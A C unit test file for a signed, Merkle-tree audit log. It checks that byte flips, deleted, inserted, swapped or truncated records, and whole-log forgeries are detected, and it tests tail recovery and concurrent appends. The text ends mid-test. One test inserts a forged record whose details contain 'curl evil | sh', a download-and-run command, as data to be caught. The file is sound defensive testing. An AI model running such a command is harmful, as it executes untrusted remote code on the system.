/* test_auditlog.c — the audit log as stored on disk: every single-byte change, deletion,
 * insertion, swap, truncation and a self-consistent forgery are detected; a torn tail is
 * recovered (and nothing else is); threads share fdatasyncs; segments roll; keys, events
 * and tree heads reject bad input. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <fcntl.h>
#include <ftw.h>
#include <glob.h>
#include <pthread.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "audit/event.h"
#include "audit/log.h"
#include "audit/merkle.h"
#include "audit/sth.h"
#include "audit/verify.h"
#include "util/err.h"

/* ---- helpers ---- */

static int
rm_one(const char *p, const struct stat *st, int flag, struct FTW *f)
{
	(void)st;
	(void)flag;
	(void)f;
	return remove(p);
}

static void
rmrf(const char *dir)
{
	nftw(dir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
}

static char *
tmpdir(void)
{
	char *d = strdup("/tmp/escort-auditlog-XXXXXX");

	assert_non_null(d);
	assert_non_null(mkdtemp(d));
	return d;
}

static audit_log *
open_w(const char *dir, uint64_t sth_every, uint64_t segmax)
{
	audit_log *l = NULL;
	audit_opts o;
	char err[4096] = "";

	memset(&o, 0, sizeof(o));
	o.sth_every = sth_every;
	o.sth_seconds = 3600;
	o.segment_max = segmax;
	if (audit_log_open(&l, dir, &o, err, sizeof(err)) != 0)
		fail_msg("open %s: %s", dir, err);
	return l;
}

static void
append_n(audit_log *l, int from, int n)
{
	for (int i = from; i < from + n; i++) {
		json_t *d = json_pack("{s:i, s:s}", "i", i, "cmd", "systemctl restart nginx");
		uint64_t seq;
		assert_int_equal(audit_log_append(l, "test.event", "alice", d, &seq), 0);
		json_decref(d);
	}
}

/* a fresh data dir with a key and n events, closed (so a final tree head covers all) */
static char *
mklog(int n, uint64_t sth_every, uint64_t segmax)
{
	char *dir = tmpdir(), err[1024];
	audit_log *l;

	assert_int_equal(audit_key_generate(dir, err, sizeof(err)), 0);
	l = open_w(dir, sth_every, segmax);
	append_n(l, 0, n);
	assert_int_equal(audit_log_close(l, err, sizeof(err)), 0);
	return dir;
}

static int
verify_bad(const char *dir, const audit_sth *cp, const audit_pubkey *pk, char *msg, size_t ml)
{
	audit_verify_opts o;
	audit_verify_result *r = calloc(1, sizeof(*r));
	int bad, rc;

	assert_non_null(r);
	memset(&o, 0, sizeof(o));
	o.checkpoint = cp;
	o.pubkey = pk;
	rc = audit_verify(dir, &o, r);
	bad = rc != 0 || r->bad;
	if (msg)
		snprintf(msg, ml, "%s", r->msg);
	free(r);
	return bad;
}

static char *
seg0(const char *dir)
{
	char *p = malloc(4096);

	assert_non_null(p);
	assert_int_equal(audit_segment_path(dir, 0, p, 4096), 0);
	return p;
}

static uint8_t *
slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	uint8_t *d;
	long n;

	assert_non_null(f);
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	d = malloc((size_t)n + 1);
	assert_non_null(d);
	assert_int_equal(fread(d, 1, (size_t)n, f), (size_t)n);
	fclose(f);
	*len = (size_t)n;
	return d;
}

static void
spit(const char *path, const void *d, size_t len)
{
	FILE *f = fopen(path, "wb");

	assert_non_null(f);
	assert_int_equal(fwrite(d, 1, len, f), len);
	fclose(f);
}

/* frames of a segment image: start offsets, count returned */
static size_t
frames_of(const uint8_t *d, size_t len, size_t *starts, size_t max)
{
	size_t off = AUDIT_SEG_HDR, n = 0;
	audit_frame f;

	while (off < len && n < max) {
		assert_int_equal(audit_frame_parse(d, len, off, &f, NULL, 0), 0);
		starts[n++] = off;
		off = f.next;
	}
	return n;
}

/* rebuilds the frame check of the frame at off after its payload was edited */
static void
fix_check(uint8_t *d, size_t off)
{
	uint32_t rl = (uint32_t)d[off] | (uint32_t)d[off + 1] << 8 | (uint32_t)d[off + 2] << 16 |
	              (uint32_t)d[off + 3] << 24;
	mt_hash h;

	assert_int_equal(mt_leaf_hash(d + off + AUDIT_FRAME_HDR, rl, &h), 0);
	memcpy(d + off + 4, h.b, 8);
}

/* builds a segment from record payloads, renumbering seqs when renumber is set */
static void
build_segment(const char *path, uint8_t **recs, size_t *lens, size_t n, int renumber)
{
	buf out = BUF_INIT, tmp = BUF_INIT;
	uint8_t hdr[AUDIT_SEG_HDR] = { 0 };

	memcpy(hdr, AUDIT_SEG_MAGIC, 8);
	assert_int_equal(buf_put(&out, hdr, sizeof(hdr)), 0);
	for (size_t i = 0; i < n; i++) {
		if (renumber) {
			audit_event ev;
			assert_int_equal(audit_event_parse(recs[i], lens[i], &ev, NULL, 0), 0);
			buf_reset(&tmp);
			assert_int_equal(audit_event_render(i, ev.time_us, ev.type, ev.actor, ev.details,
			                                    &tmp), 0);
			audit_event_free(&ev);
			assert_int_equal(audit_frame_build(tmp.data, tmp.len, &out), 0);
		} else {
			assert_int_equal(audit_frame_build(recs[i], lens[i], &out), 0);
		}
	}
	spit(path, out.data, out.len);
	buf_free(&out);
	buf_free(&tmp);
}

static size_t
records_of(const uint8_t *d, size_t len, uint8_t **recs, size_t *lens, size_t max)
{
	size_t starts[256], n = frames_of(d, len, starts, 256);

	assert_true(n <= max);
	for (size_t i = 0; i < n; i++) {
		audit_frame f;
		assert_int_equal(audit_frame_parse(d, len, starts[i], &f, NULL, 0), 0);
		recs[i] = (uint8_t *)f.rec;
		lens[i] = f.reclen;
	}
	return n;
}

/* ---- tests ---- */

/* Returns the result of a full verification (caller frees). */
static audit_verify_result *
verify_result(const char *dir, const audit_sth *cp)
{
	audit_verify_opts o;
	audit_verify_result *r = calloc(1, sizeof(*r));

	assert_non_null(r);
	memset(&o, 0, sizeof(o));
	o.checkpoint = cp;
	assert_int_equal(audit_verify(dir, &o, r), 0);
	return r;
}

/* verification hashes leaves and whole 16-leaf subtrees on worker threads and walks the
 * records in order: tree heads every 41 records fall inside some of those subtrees, others
 * are whole; a change inside a subtree, a swap inside one, and checkpoints at sizes inside
 * one are all still caught, as is a change read back across read windows and rounds */
static void
test_verify_subtrees_and_windows(void **state)
{
	char *dir = mklog(200, 40, 0), *sp = seg0(dir), path[4096], err[1024];
	uint8_t *orig, *d, *recs[256], *r2[256];
	size_t len, lens[256], l2[256], starts[256], n;
	audit_verify_result *r;
	audit_log *l;
	audit_opts ro = { .readonly = 1 };
	audit_key k;
	audit_sth cp;
	static const size_t at[] = { 17, 33, 100, 161 };

	(void)state;
	r = verify_result(dir, NULL);
	assert_false(r->bad);
	assert_true(r->sths >= 5);
	free(r);
	orig = slurp(sp, &len);
	d = malloc(len);
	assert_non_null(d);
	n = records_of(orig, len, recs, lens, 256);
	assert_int_equal(frames_of(orig, len, starts, 256), n);
	for (size_t i = 0; i < sizeof(at) / sizeof(at[0]); i++) {
		/* one byte of record at[i]'s payload, frame check fixed: the tree catches it there */
		memcpy(d, orig, len);
		d[starts[at[i]] + AUDIT_FRAME_HDR + 12] ^= 0x02;
		fix_check(d, starts[at[i]]);
		spit(sp, d, len);
		r = verify_result(dir, NULL);
		assert_true(r->bad);
		/* found at the next tree head (the signed root no longer matches) or earlier */
		assert_true(r->bad_seq >= at[i] && r->bad_seq <= at[i] + 41);
		free(r);
		/* two neighbours swapped and renumbered: only the hashes can tell */
		memcpy(r2, recs, n * sizeof(*r2));
		memcpy(l2, lens, n * sizeof(*l2));
		r2[at[i]] = recs[at[i] + 1];
		l2[at[i]] = lens[at[i] + 1];
		r2[at[i] + 1] = recs[at[i]];
		l2[at[i] + 1] = lens[at[i]];
		build_segment(sp, r2, l2, n, 1);
		assert_true(verify_bad(dir, NULL, NULL, err, sizeof(err)));
	}
	spit(sp, orig, len);
	/* checkpoints at sizes inside a 16-record subtree and at its edges */
	snprintf(path, sizeof(path), "%s/%s", dir, AUDIT_KEY_FILE);
	assert_int_equal(audit_key_load(path, &k, err, sizeof(err)), 0);
	assert_int_equal(audit_log_open(&l, dir, &ro, err, sizeof(err)), 0);
	for (uint64_t m = 30; m <= 50; m++) {
		memset(&cp, 0, sizeof(cp));
		cp.size = m;
		cp.time_us = 1700000000000000;
		assert_int_equal(audit_log_root(l, m, &cp.root), 0);
		assert_int_equal(audit_sth_sign(&cp, &k), 0);
		assert_false(verify_bad(dir, &cp, NULL, err, sizeof(err)));
		/* the right size with the root of one record more: rewritten */
		assert_int_equal(audit_log_root(l, m + 1, &cp.root), 0);
		assert_int_equal(audit_sth_sign(&cp, &k), 0);
		assert_true(verify_bad(dir, &cp, NULL, err, sizeof(err)));
		assert_non_null(strstr(err, "checkpoint"));
	}
	audit_log_close(l, NULL, 0);
	audit_key_wipe(&k);
	free(orig);
	free(d);
	free(sp);
	rmrf(dir);
	free(dir);
}

/* a segment bigger than one read window (4 MiB): records on both sides of window and round
 * boundaries are checked, and a change far into it is named by seq and offset */
static void
test_verify_large_segment(void **state)
{
	char *dir = mklog(1, 1000, 0), *sp = seg0(dir), path[4096], pad[300];
	buf seg = BUF_INIT, rec = BUF_INIT;
	uint8_t hdr[AUDIT_SEG_HDR] = { 0 };
	size_t n = 40000, target = 0, off19 = 0;
	audit_verify_result *r;

	(void)state;
	/* a log of unsigned records written directly; no derived files (verify rebuilds) */
	memcpy(hdr, AUDIT_SEG_MAGIC, 8);
	assert_int_equal(buf_put(&seg, hdr, sizeof(hdr)), 0);
	memset(pad, 'p', sizeof(pad) - 1);
	pad[sizeof(pad) - 1] = '\0';
	for (size_t i = 0; i < n; i++) {
		json_t *det = json_pack("{s:I, s:s}", "i", (json_int_t)i, "pad", pad + (i % 97));

		buf_reset(&rec);
		assert_int_equal(audit_event_render(i, 1700000000000000 + (int64_t)i, "test.big",
		                                    "tester", det, &rec), 0);
		json_decref(det);
		if (i == 39000)
			off19 = seg.len;
		assert_int_equal(audit_frame_build(rec.data, rec.len, &seg), 0);
	}
	assert_true(seg.len > ((size_t)8 << 20));
	spit(sp, seg.data, seg.len);
	for (const char *f = "head\0index\0tree\0"; *f; f += strlen(f) + 1) {
		snprintf(path, sizeof(path), "%s/audit/%s", dir, f);
		unlink(path);
	}
	r = verify_result(dir, NULL);
	assert_false(r->bad);
	assert_int_equal(r->records, n);
	assert_int_equal(r->bytes, seg.len - AUDIT_SEG_HDR);
	free(r);
	/* change record 39000 and fix its frame check: nothing signs it, but a checkpoint
	 * over the original does */
	target = off19 + AUDIT_FRAME_HDR + 40;
	seg.data[target] ^= 0x01;
	fix_check(seg.data, off19);
	spit(sp, seg.data, seg.len);
	r = verify_result(dir, NULL);
	assert_false(r->bad); /* self-consistent: only a checkpoint or tree head can tell */
	free(r);
	/* an unfixed frame check is caught where it is, deep into the segment */
	seg.data[off19 + 4] ^= 0x01;
	spit(sp, seg.data, seg.len);
	r = verify_result(dir, NULL);
	assert_true(r->bad);
	assert_int_equal(r->bad_seq, 39000);
	assert_int_equal(r->bad_off, off19);
	assert_non_null(strstr(r->msg, "checksum"));
	free(r);
	buf_free(&seg);
	buf_free(&rec);
	free(sp);
	rmrf(dir);
	free(dir);
}

static void
test_roundtrip_and_proofs(void **state)
{
	char *dir = mklog(40, 7, 0), err[1024];
	audit_log *l = NULL;
	audit_opts ro = { .readonly = 1 };
	audit_sth s;
	uint64_t sseq, n;
	buf rec = BUF_INIT;
	mt_hash path[MT_MAX_PATH], leaf, r1;
	size_t np;

	(void)state;
	assert_false(verify_bad(dir, NULL, NULL, err, sizeof(err)));
	assert_int_equal(audit_log_open(&l, dir, &ro, err, sizeof(err)), 0);
	n = audit_log_size(l);
	assert_int_equal(n, 40 + 40 / 7 + 1); /* events, a head every 7 records, one at close */
	assert_int_equal(audit_log_latest_sth(l, &s, &sseq), 0);
	assert_int_equal(sseq, n - 1);
	assert_int_equal(s.size, n - 1);
	for (uint64_t i = 0; i < s.size; i++) {
		audit_event ev;
		assert_int_equal(audit_log_read(l, i, &rec), 0);
		assert_int_equal(audit_event_parse(rec.data, rec.len, &ev, NULL, 0), 0);
		assert_int_equal(ev.seq, i);
		audit_event_free(&ev);
		assert_int_equal(mt_leaf_hash(rec.data, rec.len, &leaf), 0);
		assert_int_equal(audit_log_inclusion(l, i, s.size, path, &np), 0);
		assert_int_equal(mt_verify_inclusion(&leaf, i, s.size, path, np, &s.root), 0);
	}
	for (uint64_t m = 1; m <= s.size; m++) {
		assert_int_equal(audit_log_root(l, m, &r1), 0);
		assert_int_equal(audit_log_consistency(l, m, s.size, path, &np), 0);
		assert_int_equal(mt_verify_consistency(m, s.size, &r1, &s.root, path, np), 0);
	}
	assert_int_equal(audit_log_read(l, n, &rec), ESC_ENOENT);
	buf_free(&rec);
	audit_log_close(l, NULL, 0);
	/* reopening for writing continues the sequence */
	l = open_w(dir, 7, 0);
	append_n(l, 100, 3);
	assert_int_equal(audit_log_size(l), n + 3);
	assert_int_equal(audit_log_close(l, err, sizeof(err)), 0);
	assert_false(verify_bad(dir, NULL, NULL, err, sizeof(err)));
	rmrf(dir);
	free(dir);
}

/* every byte of a small log, flipped on its own, is detected: raw (the frame check catches
 * it) and with the frame check recomputed (the hashes and signatures catch it) */
static void
test_flip_every_byte(void **state)
{
	char *dir = mklog(3, 1000, 0), *sp = seg0(dir), msg[1024];
	size_t len, starts[64], nf, fi = 0;
	uint8_t *orig, *d;
	int fixed_total = 0;

	(void)state;
	orig = slurp(sp, &len);
	d = malloc(len);
	assert_non_null(d);
	nf = frames_of(orig, len, starts, 64);
	assert_int_equal(nf, 4); /* 3 events and the closing tree head */
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	for (size_t p = 0; p < len; p++) {
		memcpy(d, orig, len);
		d[p] ^= 0x01;
		spit(sp, d, len);
		if (!verify_bad(dir, NULL, NULL, msg, sizeof(msg)))
			fail_msg("flipping byte %zu of %zu went unnoticed", p, len);
		while (fi + 1 < nf && starts[fi + 1] <= p)
			fi++;
		if (p >= starts[fi] + AUDIT_FRAME_HDR) {
			fix_check(d, starts[fi]);
			spit(sp, d, len);
			if (!verify_bad(dir, NULL, NULL, msg, sizeof(msg)))
				fail_msg("flipping byte %zu with the check fixed went unnoticed", p);
			fixed_total++;
		}
	}
	assert_true(fixed_total > 300);
	spit(sp, orig, len);
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	free(orig);
	free(d);
	free(sp);
	rmrf(dir);
	free(dir);
}

static void
test_delete_insert_swap_truncate(void **state)
{
	char *dir = mklog(12, 5, 0), *sp = seg0(dir), msg[1024], head[4096], hsave[4096];
	uint8_t *orig, *recs[64], *r2[64];
	size_t len, lens[64], l2[64], n, hl;
	uint8_t *hd;
	audit_log *l;
	audit_opts ro = { .readonly = 1 };
	audit_sth cp;

	(void)state;
	assert_int_equal(audit_log_open(&l, dir, &ro, msg, sizeof(msg)), 0);
	assert_int_equal(audit_log_latest_sth(l, &cp, NULL), 0);
	audit_log_close(l, NULL, 0);
	orig = slurp(sp, &len);
	n = records_of(orig, len, recs, lens, 64);
	assert_true(n > 12);
	snprintf(head, sizeof(head), "%s/audit/head", dir);
	snprintf(hsave, sizeof(hsave), "%s/audit/head.save", dir);
	hd = slurp(head, &hl);
	for (int renumber = 0; renumber <= 1; renumber++) {
		/* delete record 4 */
		for (size_t i = 0, k = 0; i < n; i++)
			if (i != 4) {
				r2[k] = recs[i];
				l2[k++] = lens[i];
			}
		build_segment(sp, r2, l2, n - 1, renumber);
		assert_true(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
		/* insert a forged record before record 3 */
		{
			buf fake = BUF_INIT;
			json_t *det = json_pack("{s:s}", "cmd", "curl evil | sh");
			assert_int_equal(audit_event_render(3, 1700000000000000, "test.event", "mallory",
			                                    det, &fake), 0);
			json_decref(det);
			for (size_t i = 0, k = 0; i < n; i++) {
				if (i == 3) {
					r2[k] = fake.data;
					l2[k++] = fake.len;
				}
				r2[k] = recs[i];
				l2[k++] = lens[i];
			}
			build_segment(sp, r2, l2, n + 1, renumber);
			assert_true(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
			buf_free(&fake);
		}
		/* swap records 1 and 2 */
		memcpy(r2, recs, n * sizeof(*r2));
		memcpy(l2, lens, n * sizeof(*l2));
		r2[1] = recs[2];
		l2[1] = lens[2];
		r2[2] = recs[1];
		l2[2] = lens[1];
		build_segment(sp, r2, l2, n, renumber);
		assert_true(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	}
	/* truncate the tail: the head file notices; without it, the checkpoint does */
	for (size_t cut = 1; cut <= 3; cut++) {
		build_segment(sp, recs, lens, n - cut, 0);
		assert_true(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
		assert_non_null(strstr(msg, "removed"));
		assert_int_equal(rename(head, hsave), 0);
		assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg))); /* a consistent prefix */
		/* the checkpoint covers all but its own record (the last one) */
		assert_int_equal(verify_bad(dir, &cp, NULL, msg, sizeof(msg)), cut >= 2);
		assert_int_equal(rename(hsave, head), 0);
	}
	/* the untouched log passes, also against the checkpoint */
	build_segment(sp, recs, lens, n, 0);
	spit(head, hd, hl);
	assert_false(verify_bad(dir, &cp, NULL, msg, sizeof(msg)));
	free(hd);
	free(orig);
	free(sp);
	rmrf(dir);
	free(dir);
}

/* the whole log replaced by a self-consistent one: with another key, and even with the
 * real key (someone with root on the server); the checkpoint and public key catch both */
static void
test_forgery(void **state)
{
	char *a = mklog(10, 4, 0), *b = tmpdir(), *c = tmpdir(), msg[1024], p1[4096], p2[4096];
	audit_log *l;
	audit_opts ro = { .readonly = 1 };
	audit_sth cp;
	audit_pubkey pka;

	(void)state;
	snprintf(p1, sizeof(p1), "%s/%s", a, AUDIT_PUB_FILE);
	assert_int_equal(audit_pubkey_load(p1, &pka, msg, sizeof(msg)), 0);
	assert_int_equal(audit_log_open(&l, a, &ro, msg, sizeof(msg)), 0);
	assert_int_equal(audit_log_latest_sth(l, &cp, NULL), 0);
	audit_log_close(l, NULL, 0);
	/* B: a different key, different history, more records */
	assert_int_equal(audit_key_generate(b, msg, sizeof(msg)), 0);
	l = open_w(b, 4, 0);
	append_n(l, 50, 14);
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	assert_false(verify_bad(b, NULL, NULL, msg, sizeof(msg))); /* self-consistent */
	/* the auditor's public key rejects B's tree heads; B's own key rejects the checkpoint */
	assert_true(verify_bad(b, NULL, &pka, msg, sizeof(msg)));
	assert_true(verify_bad(b, &cp, NULL, msg, sizeof(msg)));
	assert_true(verify_bad(b, &cp, &pka, msg, sizeof(msg)));
	/* C: the real key, rewritten history */
	snprintf(p1, sizeof(p1), "%s/%s", a, AUDIT_KEY_FILE);
	snprintf(p2, sizeof(p2), "%s/%s", c, AUDIT_KEY_FILE);
	{
		size_t kl;
		uint8_t *k = slurp(p1, &kl);
		spit(p2, k, kl);
		chmod(p2, 0600);
		free(k);
		snprintf(p1, sizeof(p1), "%s/%s", a, AUDIT_PUB_FILE);
		snprintf(p2, sizeof(p2), "%s/%s", c, AUDIT_PUB_FILE);
		k = slurp(p1, &kl);
		spit(p2, k, kl);
		free(k);
	}
	l = open_w(c, 4, 0);
	append_n(l, 1, 14);
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	assert_false(verify_bad(c, NULL, &pka, msg, sizeof(msg))); /* signed with the real key */
	assert_true(verify_bad(c, &cp, &pka, msg, sizeof(msg)));    /* but not the saved history */
	assert_non_null(strstr(msg, "checkpoint"));
	assert_false(verify_bad(a, &cp, &pka, msg, sizeof(msg)));
	rmrf(a);
	rmrf(b);
	rmrf(c);
	free(a);
	free(b);
	free(c);
}

static void
append_bytes(const char *path, const void *p, size_t n)
{
	FILE *f = fopen(path, "ab");

	assert_non_null(f);
	assert_int_equal(fwrite(p, 1, n, f), n);
	fclose(f);
}

static void
test_recovery(void **state)
{
	const char *kinds[] = { "partial header", "partial record", "bad checksum", "zeros" };

	(void)state;
	for (int kind = 0; kind < 4; kind++) {
		char *dir = mklog(5, 1000, 0), *sp = seg0(dir), msg[1024], pat[4200];
		size_t len0, len1;
		uint8_t *d0 = slurp(sp, &len0), junk[64];
		audit_log *l = NULL;
		audit_opts wo = { 0 };
		audit_verify_opts vo = { 0 };
		audit_verify_result *r = calloc(1, sizeof(*r));
		glob_t g;
		uint64_t n0;

		assert_non_null(r);
		memset(junk, 0, sizeof(junk));
		if (kind == 0) {
			junk[0] = 40; /* 5 bytes of a 12-byte header */
			append_bytes(sp, junk, 5);
		} else if (kind == 1) {
			junk[0] = 200; /* header says 200 bytes; 20 follow */
			memset(junk + AUDIT_FRAME_HDR, '{', 20);
			append_bytes(sp, junk, AUDIT_FRAME_HDR + 20);
		} else if (kind == 2) {
			junk[0] = 20; /* complete frame, wrong check */
			memset(junk + AUDIT_FRAME_HDR, 'x', 20);
			append_bytes(sp, junk, AUDIT_FRAME_HDR + 20);
		} else {
			append_bytes(sp, junk, 64);
		}
		/* never silently accepted: verify without recovery reports it */
		assert_true(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
		assert_int_equal(audit_verify(dir, &vo, r), 0);
		assert_true(r->bad);
		assert_int_equal(r->bad_off, len0);
		assert_non_null(strstr(r->bad_file, ".seg"));
		/* recovery at open: truncated, reported, the bytes kept */
		assert_int_equal(audit_log_open(&l, dir, &wo, msg, sizeof(msg)), 0);
		if (strstr(audit_log_recovery(l), "torn") == NULL)
			fail_msg("%s: no recovery note", kinds[kind]);
		n0 = audit_log_size(l);
		assert_int_equal(n0, 6);
		assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
		free(slurp(sp, &len1));
		assert_int_equal(len1, len0); /* nothing new signed: the last record was a head */
		snprintf(pat, sizeof(pat), "%s/audit/torn-*.bin", dir);
		assert_int_equal(glob(pat, 0, NULL, &g), 0);
		assert_int_equal(g.gl_pathc, 1);
		globfree(&g);
		assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
		free(r);
		free(d0);
		free(sp);
		rmrf(dir);
		free(dir);
	}
}

/* damage followed by valid records is not a torn tail: open refuses, nothing is cut */
static void
test_no_recovery_of_damage(void **state)
{
	char *dir = mklog(6, 1000, 0), *sp = seg0(dir), msg[1024], head[4096];
	size_t len, starts[64], after;
	uint8_t *d;
	audit_log *l = NULL;
	audit_opts wo = { 0 };

	(void)state;
	d = slurp(sp, &len);
	assert_int_equal(frames_of(d, len, starts, 64), 7);
	d[starts[3] + AUDIT_FRAME_HDR + 5] ^= 0x20;
	spit(sp, d, len);
	/* open trusts what the head file covers; without it the scan reads everything */
	snprintf(head, sizeof(head), "%s/audit/head", dir);
	assert_int_equal(unlink(head), 0);
	assert_int_equal(audit_log_open(&l, dir, &wo, msg, sizeof(msg)), ESC_EPARSE);
	assert_non_null(strstr(msg, "checksum"));
	assert_non_null(strstr(msg, ".seg offset"));
	free(slurp(sp, &after));
	assert_int_equal(after, len);
	/* the last record damaged, but the head file says it was durable: refuse too */
	d[starts[3] + AUDIT_FRAME_HDR + 5] ^= 0x20;
	spit(sp, d, len);
	l = open_w(dir, 1000, 0); /* writes the head file again */
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	d[starts[6] + AUDIT_FRAME_HDR + 5] ^= 0x20;
	spit(sp, d, len);
	assert_int_equal(audit_log_open(&l, dir, &wo, msg, sizeof(msg)), ESC_EPARSE);
	assert_non_null(strstr(msg, "durable"));
	free(slurp(sp, &after));
	assert_int_equal(after, len);
	/* records cut off below the head's count: refuse */
	assert_int_equal(truncate(sp, (off_t)starts[5]), 0);
	assert_int_equal(audit_log_open(&l, dir, &wo, msg, sizeof(msg)), ESC_EPARSE);
	assert_null(l);
	free(d);
	free(sp);
	rmrf(dir);
	free(dir);
}

struct thr {
	audit_log *l;
	int id, n;
	uint64_t *seqs;
};

static void *
appender(void *arg)
{
	struct thr *t = arg;

	for (int i = 0; i < t->n; i++) {
		json_t *d = json_pack("{s:i, s:i}", "thread", t->id, "i", i);
		if (audit_log_append(t->l, "test.thread", "bob", d, &t->seqs[i]) != 0)
			t->seqs[i] = UINT64_MAX;
		json_decref(d);
	}
	return NULL;
}

static void
test_group_commit_threads(void **state)
{
	enum { T = 8, N = 150 };
	char *dir = tmpdir(), msg[1024];
	audit_log *l;
	pthread_t th[T];
	struct thr t[T];
	uint8_t *seen;
	uint64_t total, syncs, heads = 0;
	buf rec = BUF_INIT;

	(void)state;
	assert_int_equal(audit_key_generate(dir, msg, sizeof(msg)), 0);
	l = open_w(dir, 50, 4096); /* small segments: rolls under concurrency too */
	for (int i = 0; i < T; i++) {
		t[i].l = l;
		t[i].id = i;
		t[i].n = N;
		t[i].seqs = calloc(N, sizeof(uint64_t));
		assert_int_equal(pthread_create(&th[i], NULL, appender, &t[i]), 0);
	}
	for (int i = 0; i < T; i++)
		pthread_join(th[i], NULL);
	total = audit_log_size(l);
	syncs = audit_log_syncs(l);
	seen = calloc(total, 1);
	for (int i = 0; i < T; i++) {
		for (int k = 0; k < N; k++) {
			assert_true(t[i].seqs[k] < total);
			assert_int_equal(seen[t[i].seqs[k]], 0);
			seen[t[i].seqs[k]] = 1;
			/* the record at that seq is this thread's k-th event */
			assert_int_equal(audit_log_read(l, t[i].seqs[k], &rec), 0);
			char want[64];
			snprintf(want, sizeof(want), "{\"i\":%d,\"thread\":%d}", k, i);
			if (strstr((const char *)rec.data, want) == NULL)
				fail_msg("seq %llu: %s lacks %s", (unsigned long long)t[i].seqs[k], (const char *)rec.data, want);
		}
		free(t[i].seqs);
	}
	for (uint64_t s = 0; s < total; s++)
		heads += !seen[s];
	assert_true(heads >= (T * N) / 50); /* the rest are signed tree heads */
	{
		/* records in seq order with times that never go back; a tree head after every 50
		 * events exactly (the leader of a batch signs it at that place) */
		audit_event ev;
		int64_t last = 0;
		uint64_t prev_head = 0, events = 0;
		int have_head = 0;

		for (uint64_t s = 0; s < total; s++) {
			assert_int_equal(audit_log_read(l, s, &rec), 0);
			assert_int_equal(audit_event_parse(rec.data, rec.len, &ev, NULL, 0), 0);
			assert_int_equal(ev.seq, s);
			assert_true(ev.time_us >= last);
			last = ev.time_us;
			if (strcmp(ev.type, "sth") == 0) {
				assert_int_equal(events, 50);
				assert_true(!have_head || s == prev_head + 51);
				prev_head = s;
				have_head = 1;
				events = 0;
			} else {
				events++;
			}
			audit_event_free(&ev);
		}
	}
	print_message("# %d appends from %d threads: %llu fdatasyncs\n", T * N, T,
	              (unsigned long long)syncs);
	assert_true(syncs < (uint64_t)(T * N)); /* appenders shared syncs */
	assert_int_equal(audit_log_close(l, msg, sizeof(msg)), 0);
	assert_false(verify_bad(dir, NULL, NULL, msg, sizeof(msg)));
	buf_free(&rec);
	free(seen);
	rmrf(dir);
	free(dir);
}

struct many {
	audit_log *l;
	int id;
	uint64_t seqs[30][5];
};

static void *
many_appender(void *arg)
{
	struct many *m = arg;
	const char *types[5], *actors[5];
	json_t *d[5];

	for (int c = 0; c < 30; c++) {
		for (int k = 0; k < 5; k++) {
			types[k] = "test.many";
			actors[k] = "carol";
			d[k] = json_pack("{s:i, s:i, s:i}", "thread", m->id, "call", c, "k", k);
		}
		if (audit_log_append_many(m->l, 5, types, actors, (const json_t *const *)d,
		                          m->seqs[c]) != 0)
			m->seqs[c][0] = UINT64_MAX;
		for (int k = 0; k < 5; k++)
			json_decref(d[k]);
	}
	return NULL;
}

/* audit_log_append_many beside single appends from other threads: each call's records are
 * next to each other in its order (bar a tree head of the log's own), every seq is one
 * record, the log verifies; a call with one record that cannot be rendered appends none */
static void
test_append_many(void **state)
{
	enum { T = 4 };
	char *dir = tmpdir(), msg[1024], want[96];
	audit_log *l;
	pthread_t th[2 * T];
	struct many m[T];
	struct thr t[T];
	uint8_t *seen;
	uint64_t total, before;
	buf rec = BUF_INIT;
	const char *types[3] = { "test.many", "test.many", "test.many" };
	const char *actors[3] = { "carol", "carol", "carol" };
	json_t *d[3];

	(void)state;
	assert_int_equal(audit_key_generate(dir, msg, sizeof(msg)), 0);
	l = open_w(dir, 7, 0); /* tree heads often: some fall inside a call's records */
	for (int i = 0; i < T; i++) {
		m[i].l = l;
		m[i].id = i;
		t[i].l = l;
		t[i].id = 100 + i;
		t[i].n = 100;
		t[i].seqs = calloc(100, sizeof(uint64_t));
		assert_int_equal(pthread_create(&th[i], NULL, many_appender, &m[i]), 0);
		assert_int_equal(pthread_create(&th[T + i], NULL, appender, &t[i]), 0);
	}
	for (int i = 0; i < 2 * T; i++)
		pthread_join(th[i], NULL);
	total = audit_log_size(l);
	seen = calloc(total, 1);
	for (int i = 0; i < T; i++) {
		for (int c = 0; c < 30; c++) {
			int gaps = 0;

			for (int k = 0; k < 5; k++) {
				uint64_t s = m[i].seqs[c][k];

				assert_true(s < total);
				assert_int_equal(seen[s], 0);
				seen[s] = 1;
				assert_int_equal(audit_log_read(l, s, &rec), 0);
				snprintf(want, sizeof(want), "{\"call\":%d,\"k\":%d,\"thread\":%d}", c, k, i);
				if (strstr((const char *)rec.data, want) == NULL)
					fail_msg("seq %llu: %s lacks %s", (unsigned long long)s,
					         (const char *)rec.data, want);
				if (k == 0 || s == m[i].seqs[c][k - 1] + 1)
					continue;
				/* only a tree head between two records of one call */
				assert_int_equal(s, m[i].seqs[c][k - 1] + 2);
				assert_int_equal(audit_log_read(l, s - 1, &rec), 0);
				assert_non_null(strstr((const char *)rec.data, "\"type\":\"sth\""));
				gaps++;
			}
			assert_true(gaps <= 1);
		}
		for (int k = 0; k < 100; k++) {
			assert_true(t[i].seqs[k] < total);
			assert_int_equal(seen[t[i].seqs[k]], 0);
			seen[t[i].seqs[k]] = 1;
		}
		free(t[i].seqs);
	}
	/* a call whose second record cannot be rendered (details not an object) adds nothing */
	before = audit_log_size(l);
